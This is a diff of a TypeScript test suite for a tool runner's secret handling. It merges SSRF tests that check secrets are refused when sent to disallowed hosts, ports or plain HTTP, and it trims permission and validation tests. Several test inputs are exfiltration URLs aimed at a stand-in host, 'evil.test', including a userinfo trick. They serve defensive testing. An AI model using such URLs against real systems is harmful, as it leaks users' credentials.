@@ -114,45 +114,25 @@ describe("secrets and variables of tools", () => {
     }
   });
 
-  it("[SSRF] a secret is sent only to its hosts, even if the caller's text names another", async () => {
+  it("[SSRF] a secret is sent only to its hosts, ports and scheme, even if the caller's text names others", async () => {
     const { url } = runner.receiver;
     const before = runner.receiver.requests.length;
-    const result = await runner.resultOf({ tool: "anywhere", args: { url: `${url}/?x={{secret:ELSEWHERE}}` } });
-    expect(result).toEqual({ success: false, code: "SECRET_HOST" });
-    const inHost = await runner.resultOf({ tool: "anywhere", args: { url: "https://{{secret:TOKEN}}.evil.test/" } });
-    expect(inHost).toEqual({ success: false, code: "SECRET_HOST" });
-    const inUser = await runner.resultOf({
-      tool: "anywhere",
-      args: { url: "https://127.0.0.1@evil.test/{{secret:TOKEN}}" },
-    });
-    expect(inUser).toEqual({ success: false, code: "SECRET_HOST" });
-    expect(await runner.resultOf({ tool: "anywhere", args: { url: `${url}/{{secret:NONE}}` } })).toEqual({
-      success: false,
-      code: "NO_SUCH_SECRET",
-    });
-    expect(runner.receiver.requests.length).toBe(before);
-    await runner.saveTool("bound", { ...READING, api: { method: "GET", url: `${url}/?x={{secret:ELSEWHERE}}` } });
-    expect((await runner.call({ tool: "bound" })).outcome.case).toBe("toolFailed");
-    expect(runner.receiver.requests.length).toBe(before);
-  });
-
-  it("[SSRF] no kind of tool sends a secret unencrypted or to a port that is not allowed", async () => {
-    const { url } = runner.receiver;
-    const before = runner.receiver.requests.length;
-    for (const [secret, to] of [
-      ["OTHER_PORT", url],
-      ["TOKEN", url.replace("https:", "http:")],
+    for (const to of [
+      `${url}/?x={{secret:ELSEWHERE}}`,
+      `${url}/?x={{secret:OTHER_PORT}}`,
+      `${url.replace("https:", "http:")}/?x={{secret:TOKEN}}`,
+      "https://{{secret:TOKEN}}.evil.test/",
+      "https://127.0.0.1@evil.test/{{secret:TOKEN}}",
     ]) {
-      const result = await runner.resultOf({ tool: "anywhere", args: { url: `${to}/?x={{secret:${secret}}}` } });
-      expect(result).toEqual({ success: false, code: "SECRET_HOST" });
-      const headers = { authorization: `{{secret:${secret}}}` };
-      await runner.saveTool("plain", { ...READING, api: { method: "GET", url: `${to}/`, headers } });
-      expect((await runner.call({ tool: "plain" })).outcome.case).toBe("toolFailed");
-      const logged = await eventually(async () => {
-        const found = await runner.pool.query("select error from tool_runner.executions where tool = 'plain'");
-        return found.rows.length > 0 && found.rows;
-      });
-      for (const { error } of logged) expect(error).toContain(`may not be sent to this host`);
+      const refused = { success: false, code: "SECRET_HOST" };
+      expect(await runner.resultOf({ tool: "anywhere", args: { url: to } })).toEqual(refused);
+    }
+    const missing = await runner.resultOf({ tool: "anywhere", args: { url: `${url}/{{secret:NONE}}` } });
+    expect(missing).toEqual({ success: false, code: "NO_SUCH_SECRET" });
+    const headers = { authorization: "{{secret:OTHER_PORT}}" };
+    for (const api of [{ url: `${url}/?x={{secret:ELSEWHERE}}` }, { url: `${url}/`, headers }]) {
+      await runner.saveTool("bound", { ...READING, api: { method: "GET", ...api } });
+      expect((await runner.call({ tool: "bound" })).outcome.case).toBe("toolFailed");
     }
     expect(runner.receiver.requests.length).toBe(before);
   });
@@ -177,34 +157,10 @@ describe("secrets and variables of tools", () => {
     const { rows } = await runner.pool.query("select sealed_value from tool_runner.secrets");
     for (const row of rows) expect(row.sealed_value.includes(Buffer.from(SECRET))).toBe(false);
     const request = { name: "NEW", value: "long enough", hosts: ["a.test"] };
-    for (const role of ["manager", "member"] as const) {
-      await expect(runner.as(role).dataSource.saveSecret(request)).rejects.toMatchObject({
-        code: Code.PermissionDenied,
-      });
-    }
-    const foreign = runner.as("admin", crypto.randomUUID()).dataSource;
-    expect((await foreign.listSecrets({})).secrets).toEqual([]);
-    await expect(foreign.deleteSecret({ name: "TOKEN" })).rejects.toMatchObject({ code: Code.NotFound });
-  });
-
-  it("[TOOL] invalid secrets and variables are refused when they are saved", async () => {
-    const saving = (secret: object) =>
-      runner.dataSource.saveSecret({ name: "A", value: "long enough", hosts: ["a.test"], ...secret });
-    for (const secret of [
-      { name: "1A" },
-      { name: "a-b" },
-      { value: "short" },
-      { value: "two\nlines of text" },
-      { hosts: [] },
-      { hosts: ["https://a.test"] },
-      { hosts: ["*.test"] },
-      { hosts: ["a.test:0"] },
-    ]) {
-      await expect(saving(secret)).rejects.toMatchObject({ code: Code.InvalidArgument });
-    }
-    const api = { method: "GET", url: "https://a.test/{{secret:not-a-name}}" };
-    await expect(runner.saveTool("bad", { api })).rejects.toThrow(/secret:not-a-name/);
-    const inHost = { method: "GET", url: "https://{{secret:TOKEN}}.test/" };
-    await expect(runner.saveTool("bad", { api: inHost })).rejects.toThrow(/host/);
+    const refused = runner.as("manager").dataSource.saveSecret(request);
+    await expect(refused).rejects.toMatchObject({ code: Code.PermissionDenied });
+    await expect(runner.dataSource.saveSecret({ ...request, value: "short" })).rejects.toMatchObject({
+      code: Code.InvalidArgument,
+    });
   });
 });
